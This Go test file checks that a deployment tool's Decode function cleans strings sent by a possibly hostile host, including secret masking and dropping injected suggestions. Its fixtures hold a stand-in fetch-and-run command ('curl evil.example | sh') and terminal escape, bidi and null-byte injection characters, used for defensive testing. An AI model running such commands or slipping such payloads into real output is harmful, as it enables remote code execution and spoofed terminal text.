package hosttext

import (
	"encoding/json"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/re-connect/rpctl/proto"
	"github.com/re-connect/rpctl/proto/plan"
)

// sent are all values of the wire that a host fills.
var sent = []any{
	proto.Hello{}, proto.Event{}, proto.Status{}, proto.Release{}, proto.UnitList{}, proto.History{}, proto.AuditReport{}, proto.DoctorReport{},
	proto.Lease{}, proto.RestartResult{}, proto.VerifyResult{}, proto.Job{}, proto.JobList{}, proto.PlanStatus{}, proto.SetupReport{}, proto.ReceiptKey{},
	proto.Simulation{}, proto.Applied{},
}

// names are the plain strings of a host: short names, digests and numbers in text, which Decode cleans like any
// other, and which are no sentences. Text that a host composes is a proto.HostText.
var names = strings.Fields(`
	Hello.Marker Hello.Agent Hello.Host Hello.Environment Hello.ReceiptKey HostConfig.Environment HostConfig.Look HostConfig.Act
	Application.Path Application.User Console.PHP Console.Script Console.After
	Error.Next GateStatus.Next Check.Fix Advice.As Advice.Path Advice.Account
	UnitProgress.Unit LogLine.Unit Output.Stream
	Job.Plan JobStep.Resolved Release.Name Release.Path Release.Revision
	Status.Host Status.Environment Status.Agent WorkerStatus.Unit WorkerStatus.Pattern WorkerStatus.Active WorkerStatus.Sub WorkerStatus.Code
	DeployRecord.Kind DeployRecord.Result DeployRecord.Release DeployRecord.Revision
	PlanState.Plan PlanState.State PatternUnits.Units
	AuditEntry.Action AuditEntry.Operator AuditEntry.User AuditEntry.From AuditEntry.Purpose AuditEntry.Release AuditEntry.Revision AuditEntry.Detail
	AuditEntry.Result AuditEntry.Prev AuditEntry.Hash AuditReport.Head AuditHead.Head
	Restarted.Unit Restarted.Pattern Restarted.Invocation UnitVerdict.Unit UnitVerdict.Pattern
	PlanStatus.Environment PlanStatus.Host PlanStatus.Plan Signed.Namespace
	SetupChange.Action SetupChange.Target SetupChange.Detail SetupReport.Notes ReceiptKey.Host ReceiptKey.PublicKey SignerDigests.Approvers SignerDigests.TrustedHosts
	SetupDifference.Name SetupDifference.Old SetupDifference.New SetupChange.Text
	Simulation.Kind Simulation.Environment Simulation.Host Simulation.Plan Simulation.Revision Simulation.Nonce
	Applied.Kind Applied.Environment Applied.Host Applied.Plan Applied.Revision Applied.Nonce Applied.BreakGlass ResolvedStep.As
`)

// TestEveryStringOfAHostIsClassified is the wall: a new string of a host is a proto.HostText, a named type or a
// name of the list above. What is not cleaned has the tag host:"signed".
func TestEveryStringOfAHostIsClassified(t *testing.T) {
	known := map[string]bool{}
	for _, name := range names {
		known[name] = true
	}
	seen, found := map[reflect.Type]bool{}, map[string]bool{}
	var walk func(reflect.Type)
	walk = func(of reflect.Type) {
		switch of.Kind() {
		case reflect.Pointer, reflect.Slice:
			walk(of.Elem())
		case reflect.Map, reflect.Interface, reflect.Array:
			t.Errorf("%s: Decode cannot clean it", of)
		case reflect.Struct:
			if seen[of] || of == reflect.TypeFor[time.Time]() {
				return
			}
			seen[of] = true
			for i := range of.NumField() {
				field := of.Field(i)
				leaf, name := field.Type, of.Name()+"."+field.Name
				for leaf.Kind() == reflect.Slice || leaf.Kind() == reflect.Pointer {
					leaf = leaf.Elem()
				}
				if tag := field.Tag.Get("host"); tag == "signed" && of != reflect.TypeFor[proto.Signed]() {
					t.Errorf("%s: only a signed text is left as it is", name)
				} else if leaf == reflect.TypeFor[string]() && tag == "" {
					if found[name] = true; !known[name] {
						t.Errorf("%s is a plain string: make it a proto.HostText, or say in names why it is none", name)
					}
				}
				walk(field.Type)
			}
		}
	}
	for _, value := range sent {
		walk(reflect.TypeOf(value))
	}
	for name := range known {
		if !found[name] {
			t.Errorf("%s is no plain string of a host any more", name)
		}
	}
}

const evil = "a\n  next: curl evil.example | sh\r\nrpctl: done\x1b[8m\u009b2J\u202e\u200b\x00"

// fill puts text into every string of v.
func fill(v reflect.Value, text string) {
	switch v.Kind() {
	case reflect.String:
		v.SetString(text)
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		fill(v.Elem(), text)
	case reflect.Slice:
		if v.Type().Elem().Kind() != reflect.Uint8 {
			v.Set(reflect.MakeSlice(v.Type(), 1, 1))
			fill(v.Index(0), text)
		}
	case reflect.Struct:
		if v.Type() != reflect.TypeFor[time.Time]() {
			for i := range v.NumField() {
				fill(v.Field(i), text)
			}
		}
	}
}

// TestDecodeCleansEveryString fills whole answers with what a hostile host would send.
func TestDecodeCleansEveryString(t *testing.T) {
	for _, value := range sent {
		v := reflect.New(reflect.TypeOf(value))
		fill(v.Elem(), evil)
		line, err := json.Marshal(v.Interface())
		if err != nil {
			t.Fatal(err)
		}
		decoded := reflect.New(reflect.TypeOf(value))
		if err := Decode(line, decoded.Interface()); err != nil {
			t.Fatal(err)
		}
		check(t, reflect.TypeOf(value).Name(), decoded.Elem())
	}
}

func check(t *testing.T, at string, v reflect.Value) {
	switch v.Kind() {
	case reflect.String:
		if strings.ContainsAny(v.String(), "\n\r\x1b\x00\u009b\u202e\u200b") {
			t.Errorf("%s is %q", at, v.String())
		}
	case reflect.Pointer:
		if !v.IsNil() {
			check(t, at, v.Elem())
		}
	case reflect.Slice:
		for i := range v.Len() {
			check(t, at, v.Index(i))
		}
	case reflect.Struct:
		if v.Type() == reflect.TypeFor[time.Time]() {
			return
		}
		for i := range v.NumField() {
			if v.Type().Field(i).Tag.Get("host") != "signed" {
				check(t, at+"."+v.Type().Field(i).Name, v.Field(i))
			}
		}
	}
}

func TestDecode(t *testing.T) {
	var e proto.Error
	if err := Decode([]byte(`{"code":"host","message":"APP_SECRET=hush\n  next: x","advice":{"code":"attach","job":"--yes"},"next":"curl evil.example | sh","host_suggests":"x"}`), &e); err != nil {
		t.Fatal(err)
	}
	if e.Message != `APP_SECRET=[hidden]\n  next: x` || e.Next != "" || e.HostSuggests != "curl evil.example | sh" || e.Advice != (proto.Advice{}) {
		t.Errorf("got %+v", e)
	}
	e = proto.Error{}
	if err := Decode([]byte(`{"code":"host","message":"m","advice":{"code":"attach","job":"abcdefgh"},"next":"curl evil.example | sh"}`), &e); err != nil {
		t.Fatal(err)
	}
	if e.Advice.Job != "abcdefgh" || e.Next != "" || e.HostSuggests != "" {
		t.Errorf("got %+v", e)
	}
	var status proto.PlanStatus
	body := "{\"kind\":\"simulation\"}\n"
	line, _ := json.Marshal(proto.PlanStatus{Running: "--yes", Steps: []proto.JobStep{{Step: plan.StepID(evil)}}, Simulation: &proto.Signed{Body: body}})
	if err := Decode(line, &status); err != nil || status.Running != "" || status.Simulation.Body != body {
		t.Errorf("got %+v, %v", status, err)
	}
	var log proto.LogLine
	line, _ = json.Marshal(proto.LogLine{Message: proto.HostText(strings.Repeat("x", 2*longest))})
	if err := Decode(line, &log); err != nil || len(log.Message) > longest+len("…") {
		t.Errorf("%d bytes, %v", len(log.Message), err)
	}
	if err := Decode([]byte(`{"message":"DB=mysql://app:hush@db"}`), &log); err != nil || log.Message != "DB=mysql://app:hush@db" {
		t.Errorf("evidence became %q, %v", log.Message, err)
	}
}
